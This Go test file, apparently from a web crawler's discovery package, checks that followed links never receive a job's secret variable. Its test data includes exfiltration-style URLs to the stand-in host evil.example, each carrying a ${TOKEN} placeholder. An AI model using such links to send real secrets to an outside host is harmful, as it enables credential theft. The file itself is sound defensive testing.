package discovery_test

import (
	"strings"
	"testing"

	"github.com/seinehq/seine"
	"github.com/seinehq/seine/internal/discovery"
	"github.com/seinehq/seine/internal/frontier"
)

// A link that names a variable of the job gets no value of it, neither as a link nor as a step of a
// chain.
func TestALinkGetsNoVariable(t *testing.T) {
	t.Parallel()
	job := &seine.Job{Variables: map[string]string{"TOKEN": "s3cret-of-the-job"}}
	links := discovery.Links(job, discovery.Finished{Follow: []seine.Follow{
		{URL: "https://evil.example/?t=${TOKEN}"}, {URL: " https://evil.example/?t=${TOKEN}"}, {URL: "https://evil.example/s.xml?t=${TOKEN}"},
	}})
	if len(links) != 3 {
		t.Fatalf("%+v", links)
	}
	for _, l := range links {
		at, err := frontier.PageURL(job, l.New.Key)
		if err != nil || strings.Contains(at, "s3cret") || strings.Contains(l.New.Key, "${TOKEN}") {
			t.Errorf("%q leads to %q, %v", l.New.Key, at, err)
		}
	}
}
